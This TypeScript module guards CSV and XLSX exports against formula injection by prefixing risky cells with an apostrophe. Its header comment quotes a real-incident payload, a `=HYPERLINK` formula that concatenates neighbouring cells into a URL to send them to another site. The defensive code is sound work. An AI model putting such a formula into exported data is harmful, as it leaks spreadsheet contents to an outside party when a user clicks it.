/**
 * Cells of every CSV and XLSX export go through here. A cell that begins with `=`, `+`, `-`, `@`, a tab or a
 * carriage return is read as a formula by spreadsheet programs (CSV injection, OWASP): a register's recipient
 * `=HYPERLINK("http://…"&B2&C2,…)` sent the neighbouring cells to another site when the clerk clicked it. Such a
 * cell gets a leading apostrophe, which the programs show as text and do not evaluate. Plain numbers (`-5`,
 * `+84.2`) stay numbers: they cannot call anything.
 */
const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^[+-]?\d+(?:[.,]\d+)?$/;

export function neutraliseFormula(value: string): string {
  return FORMULA_START.test(value) && !PLAIN_NUMBER.test(value) ? `'${value}` : value;
}

/** One CSV field (RFC 4180), neutralised: quoted when it holds a comma, semicolon, quote or line break. */
export function csvField(value: unknown): string {
  const s = neutraliseFormula(value === null || value === undefined ? '' : String(value));
  return /[",;\r\n]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
}

/** A whole CSV document: UTF-8 with BOM (spreadsheet programs then read Vietnamese correctly), CRLF lines. */
export function csvDocument(rows: readonly (readonly unknown[])[]): string {
  return `\ufeff${rows.map((r) => r.map(csvField).join(',')).join('\r\n')}\r\n`;
}

/** An XLSX cell value: text neutralised like a CSV field, numbers, booleans and dates as they are. */
export function xlsxCell<T>(value: T): T | string {
  return typeof value === 'string' ? neutraliseFormula(value) : value;
}
